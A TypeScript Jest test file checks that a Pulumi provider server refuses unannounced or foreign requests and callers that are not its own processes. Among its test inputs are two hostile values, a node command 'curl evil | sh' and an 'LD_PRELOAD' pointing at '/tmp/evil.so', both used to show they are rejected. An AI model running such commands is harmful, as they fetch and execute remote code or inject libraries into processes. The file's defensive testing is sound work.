import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as plugin from '@pulumi/pulumi/proto/plugin_pb';
import * as messages from '@pulumi/pulumi/proto/provider_pb';
import { Empty } from 'google-protobuf/google/protobuf/empty_pb';
import { type AnnouncedCommand, createAnnouncedOrders } from '../../../infra/pulumi/announcedOrders';
import { callingSocket } from '../../../infra/pulumi/callingProcess';
import { type ProviderServer, serveProvider } from '../../../infra/pulumi/providerServer';
import type { Properties } from '../../../infra/pulumi/resourceHandler';
import { until } from '../../support/nodeStage';
import { type ProviderClient, providerClient, urnOf } from '../../support/providerClient';

const type = 'pam:local:Node';
const node = (command: string) => ({ category: 'checkout', settings: { command: [command] } });
const command: AnnouncedCommand = {
  stack: 'checkout',
  wanted: [
    { type, name: 'checkout-1', properties: node('serve') },
    {
      type: 'pam:pool:RoutingRule',
      name: 'checkout-rule',
      id: 'checkout',
      properties: { match: '/checkout' },
    },
  ],
  dropped: [{ type, name: 'checkout-0', properties: { category: 'checkout', drainMs: 5 } }],
};
const urn = (name: string, stack = 'checkout') => urnOf(stack, type, name);

describe('a provider that anybody may call', () => {
  const done: string[] = [];
  const refusals: string[] = [];
  const orders = createAnnouncedOrders();
  const note = (what: string, id: string, properties: Properties) =>
    done.push(`${what} ${id} ${JSON.stringify(properties)}`);
  const handler = {
    create: async ({ name }: { name: string }, inputs: Properties) => {
      note('create', name, inputs);
      return { id: name, properties: inputs };
    },
    read: async (_id: string, properties: Properties) => properties,
    delete: async (id: string, properties: Properties) => void note('delete', id, properties),
  };
  const update = async (id: string, inputs: Properties) => {
    note('update', id, inputs);
    return inputs;
  };
  let server: ProviderServer;
  let client: ProviderClient;

  beforeAll(async () => {
    server = await serveProvider({
      handlers: { [type]: handler, 'pam:pool:RoutingRule': { ...handler, update } },
      onFailure: () => undefined,
      onRefused: (why) => refusals.push(why),
      orders,
      admits: () => true,
    });
    client = providerClient(server.port);
  });
  beforeEach(() => {
    done.length = 0;
  });
  afterAll(() => {
    client.close();
    server.close();
  });
  const refused = /refused: .*order refused/;

  test('does nothing while no command of its process runs, whatever is asked', async () => {
    const struct = new messages.CheckRequest();
    struct.setUrn(urn('checkout-1'));
    const diff = new messages.DiffRequest();
    diff.setUrn(urn('checkout-1'));
    const answers = await Promise.all([
      client.create(urn('checkout-1'), node('serve')),
      client.create(urn('checkout-1'), node('serve'), true),
      client.update(urnOf('checkout', 'pam:pool:RoutingRule', 'checkout-rule'), 'checkout', { match: '/' }),
      client.delete(urn('checkout-0'), 'checkout-0', { category: 'checkout' }),
      client.read(urn('checkout-1'), 'checkout-1', { category: 'checkout' }),
      client.call('check', struct),
      client.call('diff', diff),
    ]);
    for (const answer of answers) expect(answer).toMatch(refused);
    expect(done).toEqual([]);
    expect(refusals.length).toBe(answers.length);
  });

  test('what it answers to everybody has no effect', async () => {
    await client.call('cancel', new Empty());
    await client.call('attach', new plugin.PluginAttach());
    await client.call('configure', new messages.ConfigureRequest());
    for (const [method, message] of [
      ['invoke', new messages.InvokeRequest()],
      ['call', new messages.CallRequest()],
      ['construct', new messages.ConstructRequest()],
    ] as const)
      expect(await client.call(method, message)).toMatch(/refused/);
    expect(done).toEqual([]);
    // Neither a foreign Cancel nor a foreign Attach disturbs an order of our own.
    await orders.during(command, async () => {
      await client.call('cancel', new Empty());
      await client.call('attach', new plugin.PluginAttach());
      expect(await client.create(urn('checkout-1'), node('serve'))).toBe('checkout-1');
    });
  });

  test('makes what was announced, once, and nothing that differs in a letter', async () => {
    await orders.during(command, async () => {
      for (const foreign of [
        client.create(urn('checkout-1'), node('curl evil | sh')),
        client.create(urn('checkout-1'), { ...node('serve'), env: { LD_PRELOAD: '/tmp/evil.so' } }),
        client.create(urn('checkout-1'), { category: 'checkout' }),
        client.create(urn('checkout-2'), node('serve')),
        client.create(urn('checkout-1', 'search'), node('serve')),
        client.create(urnOf('checkout', 'pam:other:Node', 'checkout-1'), node('serve')),
        client.update(urnOf('checkout', 'pam:pool:RoutingRule', 'checkout-rule'), 'search', {
          match: '/checkout',
        }),
        client.update(urnOf('checkout', 'pam:pool:RoutingRule', 'checkout-rule'), 'checkout', { match: '/' }),
        client.delete(urn('checkout-1'), 'checkout-1', { category: 'checkout' }),
        client.delete(urnOf('checkout', 'pam:pool:RoutingRule', 'checkout-rule'), 'checkout', {}),
        client.delete(urn('checkout-0', 'search'), 'checkout-0', {}),
      ])
        expect(await foreign).toMatch(refused);
      expect(done).toEqual([]);
      expect(await client.create(urn('checkout-1'), node('serve'))).toBe('checkout-1');
      expect(await client.create(urn('checkout-1'), node('serve'))).toMatch(/carried out before/);
    });
    expect(await client.create(urn('checkout-1'), node('serve'))).toMatch(refused);
    expect(done).toEqual([`create checkout-1 ${JSON.stringify(node('serve'))}`]);
  });

  test('deletes with what this process knows, not with what the request says; a stranger to it is left alone', async () => {
    await orders.during(command, async () => {
      const lie = { category: 'search', drainMs: 0 };
      expect(await client.delete(urn('checkout-0'), 'checkout-0', lie)).toBe('ok');
      expect(await client.delete(urn('checkout-0'), 'checkout-0', lie)).toMatch(/carried out before/);
      // Known to a state of Pulumi alone: that entry may go, and nothing is done.
      expect(await client.delete(urn('search-7'), 'search-7', lie)).toBe('ok');
    });
    expect(done).toEqual(['delete checkout-0 {"category":"checkout","drainMs":5}']);
  });

  test('reads through a stack only what is of its category', async () => {
    const read = await orders.during(command, () =>
      client.read(urn('search-1'), 'search-1', { category: 'search' }),
    );
    expect(JSON.parse(read)).toEqual({ category: 'checkout' });
  });

  test('a second command on the same stack is refused, and a failed one leaves nothing permitted', async () => {
    await orders.during(command, async () => {
      await expect(orders.during(command, async () => undefined)).rejects.toMatchObject({ code: 'CONFLICT' });
    });
    await expect(orders.during(command, () => Promise.reject(new Error('no')))).rejects.toThrow('no');
    expect(await client.create(urn('checkout-1'), node('serve'))).toMatch(refused);
  });
});

describe('who is let in', () => {
  const refusals: string[] = [];
  const folder = mkdtempSync(join(tmpdir(), 'pam-caller-'));
  let server: ProviderServer;
  beforeAll(async () => {
    server = await serveProvider({
      handlers: {},
      onFailure: () => undefined,
      onRefused: (why) => refusals.push(why),
      orders: createAnnouncedOrders(),
    });
  });
  afterAll(() => {
    server.close();
    rmSync(folder, { recursive: true });
  });

  /** Says `in` when the server speaks (HTTP/2 settings), `out` when it hangs up. */
  const caller = (port: number) => `
    const s = require('net').connect(${port}, '127.0.0.1');
    s.once('data', () => { console.log('in'); process.exit(0); });
    s.once('close', () => { console.log('out'); process.exit(0); });
    s.once('error', () => {});
    s.write('PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + '\\0\\0\\0\\x04\\0\\0\\0\\0\\0');`;

  async function call(identity: { uid?: number; gid?: number }): Promise<string> {
    const child = spawn(process.execPath, ['-e', caller(server.port)], {
      ...identity,
      cwd: '/',
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    let said = '';
    child.stdout.on('data', (text) => {
      said += text;
    });
    await once(child, 'close');
    return said.trim();
  }

  test('a process that this one started', async () => {
    expect(await call({})).toBe('in');
  });

  test('no process of another user, even if this one started it', async () => {
    if (process.getuid?.() !== 0) return;
    expect(await call({ uid: 65_534, gid: 65_534 })).toBe('out');
    expect(refusals.length).toBeGreaterThan(0);
  });

  test('no process of the same user that somebody else started, and not this one itself', async () => {
    const said = join(folder, 'said');
    // The shell in between ends, so that its child is nobody's of ours.
    execFileSync('sh', [
      '-c',
      '"$0" -e "$1" > "$2" 2>&1 &',
      process.execPath,
      `setTimeout(() => {${caller(server.port)}}, 200)`,
      said,
    ]);
    await until('it has an answer', () => readFileSync(said, 'utf8') !== '');
    expect(readFileSync(said, 'utf8').trim()).toBe('out');
    const own = providerClient(server.port);
    expect(await own.call('cancel', new Empty())).toMatch(/refused/);
    own.close();
  });

  test('a socket that is closed meanwhile belongs to nobody, whatever the kernel writes of it', () => {
    const line = (state: string, inode: string) =>
      `  0: 0100007F:1F90 0100007F:0050 ${state} 00000000:00000000 00:00000000 00000000  1000        0 ${inode} 1`;
    expect(callingSocket(line('01', '77'), 8080, 80)).toEqual({ uid: 1000, inode: '77' });
    expect(callingSocket(line('06', '0'), 8080, 80)).toBeNull();
    expect(callingSocket(line('01', '0'), 8080, 80)).toBeNull();
    expect(callingSocket(line('01', '77'), 8081, 80)).toBeNull();
  });
});
